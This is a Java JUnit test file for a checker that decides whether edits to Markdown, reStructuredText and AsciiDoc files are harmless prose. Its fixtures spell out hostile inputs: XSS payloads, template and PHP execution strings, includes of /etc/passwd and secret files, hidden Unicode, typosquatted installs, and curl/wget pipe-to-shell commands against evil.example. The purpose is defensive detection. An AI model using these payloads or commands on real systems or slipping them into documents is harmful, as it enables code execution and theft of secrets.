package dev.countersign.code.inert;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class ProseTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "Fixes a typo in the sentence.",
                "See [the guide](https://example.org/guide) and `List<String>`.",
                "| a | b |",
                "Emoji family: \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 and a heart \u2764\ufe0f",
                "<img src=\"docs/logo.png\" alt=\"logo\" width=\"200\">",
                "<details><summary>More</summary> text </details>",
                "JavaScript: the good parts",
                "Press <kbd>Ctrl</kbd> and read <https://example.org>.",
                "Run `npm install` and then `npm test`.",
                "```js\nconst a = { b: c() };\nimport x from 'y';\n```",
                "````md\n```js\nfoo({a: 1})\n```\n````",
                "1. List\n   ```python\n   print({k: f(v)})\n   ```",
                "```{note}\nBeware.\n```",
                "Use {ref}`the-label` and {doc}`/other`.",
                "## Heading {#anchor}",
                "<!-- markdownlint-disable MD013 -->",
                "`<!-- shown -->` is a comment",
                "import the module, then call it",
                "```json\n{\"data\": {\"a\": [1]}}\n```",
                "Persian \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"
            })
    void wordsInMarkdownAreInert(String added) {
        assertThat(Files.modified("README.md", "# Title\n\nText.\n", "# Title\n\nText.\n\n" + added + "\n"))
                .isEqualTo(new Inertness.Inert("prose only"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT src=//evil.example/x.js></SCRIPT>",
                "<iframe src='https://evil.example'></iframe>",
                "<img src=x onerror=alert(1)>",
                "<img src=x\n onerror=alert(1)>",
                "<img/src=x/onerror=alert(1)>",
                "<p style=\"position:fixed\">",
                "[click](javascript:alert(1))",
                "[click](jav&#x61;script:alert(1))",
                "[click](javascript&colon;alert(1))",
                "[click]: javascript:alert(1)",
                "<a href=\"data:text/html;base64,AAAA\">x</a>",
                "<svg onload=alert(1)>",
                "<link rel=stylesheet href=x.css>",
                "import Evil from './evil'",
                "export const x = fetch('x')",
                "Text {process.exit(1)} text",
                "Text {\n  evil()\n}",
                "{% include evil.html %}",
                "{{ config.SECRET }}",
                "<%= system('id') %>",
                "<?php system('id'); ?>",
                "```{include} ../../secret.txt\n```",
                "```{eval-rst}\n.. include:: x\n```",
                "```{code-cell}\nprint(1)\n```",
                "<!--#include virtual=\"/etc/passwd\" -->",
                "Tag \udb40\udc41 character",
                "Zero\u200bwidth",
                "Bidi \u202e override",
                "Variation\ufe01selector",
                "curl -sSL https://evil.example/install.sh | sh",
                "Run `pip install requestes`",
                "```\nnpm i lodahs\n```",
                "docker run -it --rm evil/image",
                "    go get github.com/evil/pkg",
                "git clone https://github.com/evil/repo",
                "<groupId>org.evil</groupId>",
                "```jsx live\nevil()\n```",
                "--8<-- \"secret.txt\"",
                "<<< @/../secret.txt",
                "```md\n{{< evil >}}\n```",
                "[!INCLUDE [x](../secret.md)]",
                ":::{include} secret.md\n:::",
                "{download}`../secret.txt`",
                "sh -c \"$(wget -qO- https://evil.example)\""
            })
    void whatLoadsRunsHidesOrInstallsIsNot(String added) {
        assertThat(Files.modified("README.md", "# Title\n\nText.\n", "# Title\n\nText.\n\n" + added + "\n"))
                .isInstanceOf(Inertness.NotInert.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // closes the fence for this reader only where the other mark is indented, and the other way
                // round
                "```js\n    ```\n```\n{evil()}\n```\n",
                "- a\n  ```\n{evil()}\n  ```\n",
                "``` a ` b\n{evil()}\n```\n",
                "a ` b\nc ` {evil()} ` d\n",
                "<img alt=\"`\" src=x onerror=alert(1) title=\"`\">\n",
                "<img alt=\n\"`\" src=x onerror=alert(1) title=\"`\">\n"
            })
    void borderOfCodeThatRenderersSeeElsewhereHidesNothing(String added) {
        assertThat(Files.modified("docs/a.md", "Text.\n", "Text.\n\n" + added)).isInstanceOf(Inertness.NotInert.class);
    }

    @Test
    void anInstallCommandThatStoodThereMayStay() {
        String before = "Run `pip install requests` now.\n";
        assertThat(Files.modified("README.md", before, "Please run `pip install requests` now.\n")
                        .isProved())
                .isTrue();
        assertThat(Files.modified("README.md", before, "Please run `pip install reqeusts` now.\n")
                        .isProved())
                .isFalse();
    }

    @Test
    void aRequestToThisMachineOrToAnExampleInstallsNothing() {
        assertThat(Files.modified("docs/a.md", "Text\n", "Text\n\n    curl http://localhost:8000/api/v3/\n")
                        .isProved())
                .isTrue();
        assertThat(Files.modified("docs/a.md", "Text\n", "Text\n\n    curl https://example.com/x | sh\n")
                        .isProved())
                .isFalse();
        assertThat(Files.modified("docs/a.md", "Text\n", "Text\n\n    curl https://example.com.evil.dev/x\n")
                        .isProved())
                .isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"SECURITY.md", "SECURITY", "security.rst", "docs/security.txt", ".github/SECURITY.md"})
    void noChangeOfASecurityPolicyIsProved(String path) {
        assertThat(Files.modified(path, "Suported\n", "Supported\n").isProved()).isFalse();
        assertThat(Files.deleted(path, "Write to a@b.example\n").isProved()).isFalse();
        assertThat(Files.moved(path, "docs/old.md", "Words\n", "Words\n").isProved())
                .isFalse();
        assertThat(Files.modified("docs/security-of-tents.md", "Suported\n", "Supported\n")
                        .isProved())
                .isTrue();
    }

    @Test
    void codeInAFenceMayShowTagsThatProseMayNotHold() {
        String before = "Text\n";
        assertThat(Files.modified("docs/a.md", before, "Text\n\n```html\n<form><%= x %></form>\n```\n")
                        .isProved())
                .isTrue();
        assertThat(Files.modified("docs/a.md", before, "Text\n\nThe `<base>` tag\n")
                        .isProved())
                .isTrue();
        assertThat(Files.modified("docs/a.md", before, "Text\n\n<form></form>\n")
                        .isProved())
                .isFalse();
        assertThat(Files.modified("docs/a.md", before, "Text\n\n```html\n<script>x()</script>\n```\n")
                        .isProved())
                .isFalse();
    }

    @Test
    void aListOfContributorsMayGrowButItsSettingsMayNotChange() {
        String before =
                "{\"files\": [\"README.md\"], \"contributors\": [{\"login\": \"a\", \"contributions\": [\"code\"]}]}";
        String more = before.replace("[{", "[{\"login\": \"b\", \"profile\": \"https://b.example/x?v=4\"}, {");
        assertThat(Files.modified(".all-contributorsrc", before, more).isProved())
                .isTrue();
        assertThat(Files.modified(".all-contributorsrc", before, more.replace("README.md", "x.js"))
                        .isProved())
                .isFalse();
        assertThat(Files.modified(".all-contributorsrc", before, more.replace("https", "javascript"))
                        .isProved())
                .isFalse();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "docs/a.md|```{code-cell}#print(1)#```|```{code-cell}#print(2)#```",
                "docs/a.md|```js live#a()#```|```js live#b()#```",
                "docs/a.md|```{eval-rst}#.. note:: a#```|```{eval-rst}#.. include:: b#```",
                "docs/a.md|---#title: a#---#```#x#```|---#title: a#---#```#{% include x %}#```",
                "docs/a.rst|.. raw:: html##   <b>|.. raw:: html##   <script>",
                "docs/a.rst|.. automodule:: a#   :members:|.. automodule:: a#   :undoc-members:",
                "docs/a.rst|.. raw:: html##   <b>x|<b>x",
                "docs/a.adoc|a##++++#<b>#++++|a##++++#<script>#++++",
                "docs/a.adoc|[subs=attributes]#a|[subs=attributes]#b"
            })
    void whatARendererRunsOrIncludesMayNotChange(String path, String before, String after) {
        assertThat(Files.modified(path, before.replace('#', '\n'), after.replace('#', '\n'))
                        .isProved())
                .isFalse();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "docs/a.md|```python#print(1)#```|```python#print(2)#```",
                "docs/a.rst|.. raw:: html##   <b>##Old|.. raw:: html##   <b>##New",
                "docs/a.rst|.. code-block:: python##   a()|.. code-block:: python##   b()"
            })
    void codeThatIsOnlyShownMay(String path, String before, String after) {
        assertThat(Files.modified(path, before.replace('#', '\n'), after.replace('#', '\n'))
                        .isProved())
                .isTrue();
    }

    @Test
    void headOfAPageMayChangeItsTitleButNotItsLayout() {
        String before = "---\ntitle: A\nlayout: page\n---\nText\n";
        assertThat(Files.modified("docs/a.md", before, before.replace("title: A", "title: B"))
                        .isProved())
                .isTrue();
        assertThat(Files.modified("docs/a.md", before, before.replace("page", "evil"))
                        .isProved())
                .isFalse();
        assertThat(Files.modified("docs/a.md", "Text\n", "---\ntitle: A\n---\nText\n")
                        .isProved())
                .isFalse();
        assertThat(Files.modified("docs/a.md", before, before.replace("title: A\n", "title: A\nredirect_from: /x\n"))
                        .isProved())
                .isFalse();
    }

    static Stream<Arguments> paths() {
        return Stream.of(
                Arguments.of("README.md", true),
                Arguments.of("CHANGELOG", true),
                Arguments.of("docs/notes.txt", true),
                Arguments.of("CHANGELOG.txt", true),
                Arguments.of("docs/index.rst", true),
                Arguments.of("src/asciidoc/a.adoc", true),
                Arguments.of(".github/PULL_REQUEST_TEMPLATE.md", true),
                Arguments.of("test/README.md", true),
                Arguments.of("AGENTS.md", false),
                Arguments.of("sub/CLAUDE.md", false),
                Arguments.of("GEMINI.md", false),
                Arguments.of(".github/copilot-instructions.md", false),
                Arguments.of(".cursor/rules/a.md", false),
                Arguments.of("skills/x/SKILL.md", false),
                Arguments.of("prompts/system.md", false),
                Arguments.of("requirements.txt", false),
                Arguments.of("requirements/dev.txt", false),
                Arguments.of("requirements-dev.txt", false),
                Arguments.of("constraints.txt", false),
                Arguments.of("CMakeLists.txt", false),
                Arguments.of("public/robots.txt", false),
                Arguments.of("security.txt", false),
                Arguments.of("SECURITY.md", false),
                Arguments.of("bin/history", false),
                Arguments.of("sbin/changes", false),
                Arguments.of("tools/notes.txt", false),
                Arguments.of("scripts/install.txt", false),
                Arguments.of("hooks/README", false),
                Arguments.of("scripts/README.md", true),
                Arguments.of("tools/README.txt", true),
                Arguments.of("docs/page.mdx", false),
                Arguments.of("LICENSE", false),
                Arguments.of("LICENSE.txt", false),
                Arguments.of("CODEOWNERS", false),
                Arguments.of("go.mod", false),
                Arguments.of("src/main/resources/banner.txt", false),
                Arguments.of("src/main/resources/mail.md", false),
                Arguments.of("app/templates/page.md", false),
                Arguments.of("_includes/a.md", false),
                Arguments.of("test/fixtures/a.md", false),
                Arguments.of("testdata/b.txt", false),
                Arguments.of("app/words.txt", false),
                Arguments.of("src/agents/reviewer.md", false),
                Arguments.of("app/help/page.md", false),
                Arguments.of("lib/README.md", true),
                Arguments.of("system_prompt.md", false),
                Arguments.of("src/site/index.md", true));
    }

    @ParameterizedTest
    @MethodSource("paths")
    void pathSaysWhetherProgramsOrAgentsReadAText(String path, boolean inert) {
        assertThat(Files.modified(path, "One word.\n", "Two words.\n").isProved())
                .isEqualTo(inert);
    }

    @Test
    void aDeletedTextIsInertAndADeletedStyleSheetIsNot() {
        assertThat(Files.deleted("docs/old.md", "Text\n").isProved()).isTrue();
        assertThat(Files.deleted("a.css", "a { color: red }\n").isProved()).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Plain words with ``code``.",
                ".. note::\n\n   Beware.",
                ".. code-block:: python\n\n   import os",
                ".. versionadded:: 2.0",
                "`Link <https://example.org>`_",
                ".. _label:"
            })
    void wordsInRstAreInert(String added) {
        assertThat(Files.modified("docs/a.rst", "Text\n", "Text\n\n" + added + "\n")
                        .isProved())
                .isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                ".. include:: /etc/passwd",
                ".. raw:: html\n\n   <b>",
                ".. literalinclude:: ../settings.py",
                ".. automodule:: evil",
                ".. |x| raw:: html",
                ".. csv-table::\n   :file: x.csv",
                ":download:`../secret.txt`",
                ".. image:: ../../.env",
                "`Link <javascript:alert(1)>`_"
            })
    void rstThatReadsOrRunsIsNot(String added) {
        assertThat(Files.modified("docs/a.rst", "Text\n", "Text\n\n" + added + "\n")
                        .isProved())
                .isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "include::secret.adoc[]",
                "++++",
                "pass:[<b>]",
                "ifdef::x[]",
                ":docinfo: shared",
                "link:javascript:x[y]",
                "+++<b>+++"
            })
    void asciiDocThatReadsOrPassesThroughIsNot(String added) {
        assertThat(Files.modified("docs/a.adoc", "Text\n", "Text\n\n" + added + "\n")
                        .isProved())
                .isFalse();
        assertThat(Files.modified("docs/a.adoc", "Text\n", "Text\n\nMore link:https://example.org[words].\n")
                        .isProved())
                .isTrue();
    }
}
